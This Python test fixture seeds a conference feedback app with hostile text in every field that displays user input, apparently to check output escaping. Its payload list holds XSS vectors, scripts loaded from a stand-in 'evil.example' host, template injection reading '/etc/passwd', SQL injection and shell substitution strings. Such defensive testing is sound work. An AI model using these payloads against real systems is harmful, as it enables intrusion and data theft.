"""Words that mean harm, and a house in which every place that shows somebody's words shows some of them."""

import secrets
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from typing import Any

from feedback.actions import crew, ideas, programme, prompts, reports, runs
from feedback.cli.house import own_house
from feedback.domain.facts import Refusal
from feedback.domain.ids import ulid
from feedback.domain.ops import IdeaOp
from feedback.domain.programme import Scene
from feedback.domain.roles import HOUSE, Actor, Role
from feedback.domain.texts import canonical, one_line
from feedback.domain.themes import Theme, ThemeSet
from feedback.identity import new_token
from feedback.settings import read_settings
from feedback.store.programme import Conversation, Strand

ZALGO = "Z" + "\u0301\u0302\u0303\u0304\u0305" * 4 + "a" + "\u0316\u0317\u0318\u0319" * 5 + "lgo"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/a.png'>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "` onload=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<a href=javascript:alert(1)>Click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/?a=1&b=2#c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt; &copy &notin; &#x202e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{7*7}} {{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %(n)d %s %% {0} {name}",
    "__proto__ constructor toString hasOwnProperty",
    "'; DROP TABLE idea; --",
    "$(alert) `id` && echo \\x3cscript\\x3e",
    "\u202egnp.exe\u202c and \u2066more\u2069 \u200fright",
    "\u202etxet desrever eht lla",
    "שלום עולם, <b>רעיון</b> חדש",
    "فكرة جديدة للمدينة (2026) <i>!</i>",
    ZALGO,
    ("\u0e01" + "\u0e49" * 30 + " ") * 5,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "\u200d\ufe0f a\u034f \u3164 b \u2800",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "https://evil.example/" + "a" * 90,
    "W" * 500,
    "﷽" * 100,
    "line one\nline two\n\n\n\n\nline three",
]  # fmt: skip
assert len(PAYLOADS) == 63
PER_PROMPT = 7
HIDDEN = 10


def fitting(limit: int, *, line: bool = True) -> list[str]:
    """The payloads as a field of this length keeps them."""
    kept = []
    for payload in PAYLOADS:
        try:
            kept.append(one_line(payload, limit=limit) if line else canonical(payload, limit=limit))
        except Refusal:
            continue
    return kept


@dataclass
class HostileHouse:
    """What was written where; cookies of a participant and of an organiser."""

    instance: Path
    code: str = ""
    conference: str = ""
    contact: str = ""
    title: str = ""
    strands: list[tuple[int, dict[str, str]]] = field(default_factory=list)
    prompts: dict[int, str] = field(default_factory=dict)
    ideas: dict[int, dict[str, str]] = field(default_factory=dict)
    plain: str = "A plain line"
    zalgo: str = ""
    reasons: list[str] = field(default_factory=list)
    themes: list[str] = field(default_factory=list)
    terms: tuple[str, ...] = ()
    names: list[str] = field(default_factory=list)
    freezes: list[str] = field(default_factory=list)
    participant: str = ""
    organiser: str = ""


class Builder:
    """Fills a new installation, before any server runs on it."""

    def __init__(self, instance: Path) -> None:
        self.settings = read_settings({"FEEDBACK_INSTANCE": str(instance)})
        self.made = HostileHouse(instance)
        self.lines, self.names = cycle(fitting(120)), cycle(fitting(40))

    def build(self) -> HostileHouse:
        """Make everything."""
        with own_house(self.settings) as house:
            self.gate, self.identity = house.gate, house.identity
            self.gate.write(None, programme.found_conference, time_zone="UTC", chance=secrets.randbits)
            self.place = self.gate.write(
                None, lambda tx: tx.db.query(Conversation.id).order_by(Conversation.id).first()[0]
            )
            self._programme()
            self._ideas()
            self._themes()
            self._crew()
        return self.made

    def do(self, action: Any, *args: Any, **kwargs: Any) -> Any:
        """Act as the house."""
        return self.gate.write(self.place, action, HOUSE, *args, **kwargs)

    def _programme(self) -> None:
        made = self.made
        made.conference, made.contact, made.title = next(self.lines), next(self.lines), next(self.lines)
        self.do(
            programme.rename_conference, title=made.conference, contact=made.contact, retention_days=30, time_zone="UTC"
        )
        self.do(programme.rename_conversation, self.place, title=made.title)
        made.code = self.gate.write(None, lambda tx: tx.db.get_one(Conversation, self.place).code)
        ids = self.gate.write(None, lambda tx: [row.id for row in tx.db.query(Strand).order_by(Strand.id)])
        longest = cycle(reversed(fitting(500, line=False)))
        for strand in ids:
            words = {"name": next(self.names), "tagline": next(self.lines)}
            words |= {"focus": one_line(next(longest), limit=500), "description": next(longest)}
            self.do(programme.edit_strand, strand, **words)
            made.strands.append((strand, words))

    def _ideas(self) -> None:
        made, asked = self.made, cycle(reversed(fitting(300, line=False)))
        me, other = new_token(), new_token()
        made.participant = self.identity.sign(me)
        writers = [self._join(token) for token in (me, other)]
        texts = [made.plain, *fitting(500, line=False)]
        made.zalgo = canonical(ZALGO)
        for start in range(0, len(texts), PER_PROMPT):
            text = next(asked)
            prompt = self.do(prompts.add_prompt, self.place, text=text, votes_each=None)
            self.do(prompts.open_prompt, prompt)
            made.prompts[prompt] = text
            made.ideas[prompt] = {
                self._write(writers[number % 2], prompt, each): each
                for number, each in enumerate(texts[start : start + PER_PROMPT])
            }
        first = next(iter(made.prompts))
        for _ in range(HIDDEN):
            reason = next(self.lines)
            self.do(ideas.hide_idea, self._write(writers[0], first, f"Taken off {len(made.reasons)}"), reason=reason)
            made.reasons.append(reason)
        self.do(prompts.set_stage, self.place, scene=Scene.RANKING, prompt_id=first, idea_id=None)

    def _join(self, token: str) -> Actor:
        known = self.identity.token_hash(token, self.place)
        participant = self.gate.write(self.place, programme.join_conversation, self.place, token_hash=known)
        return Actor(Role.PARTICIPANT, self.place, participant_id=participant)

    def _write(self, actor: Actor, prompt: int, text: str) -> str:
        name = ulid(1_790_000_000_000, secrets.randbits)
        self.gate.write(self.place, ideas.submit_idea, actor, IdeaOp(name, name, prompt, text, "en"))
        return name

    def _themes(self) -> None:
        made = self.made
        made.terms = tuple(fitting(40))
        made.themes = fitting(120)
        known = [idea for group in made.ideas.values() for idea in group]
        # Every theme holds an idea of its own.
        made.themes = made.themes[: len(known)]
        found = tuple(
            Theme(number, name, terms=made.terms, ideas=(idea,), representatives=(idea,))
            for number, (name, idea) in enumerate(zip(made.themes, known, strict=False), 1)
        )
        run = self.do(runs.request_themes, self.place)
        left = tuple(known[len(found) :])
        self.gate.write(self.place, runs.finish_theme_run, run, ThemeSet(found, left, len(found) + 1))

    def _crew(self) -> None:
        made = self.made
        token = new_token()
        made.organiser = self.identity.sign(token)
        bearer = self.identity.bearer_hash(token)
        self.gate.write(None, crew.admit, role=Role.ORGANISER, conversation_id=None, bearer_hash=bearer)
        for number, name in enumerate(fitting(40)):
            role = (Role.FACILITATOR, Role.RAPPORTEUR)[number % 2]
            known = secrets.token_hex(32)
            self.gate.write(None, crew.mint_link, HOUSE, role, self.place, secret_hash=known)
            self.gate.write(None, crew.redeem_link, secret_hash=known, bearer_hash=secrets.token_hex(32), name=name)
            made.names.append(name)
        for _ in range(5):
            made.freezes.append(next(self.lines))
            self.do(reports.freeze, self.place, name=made.freezes[-1], language="en")
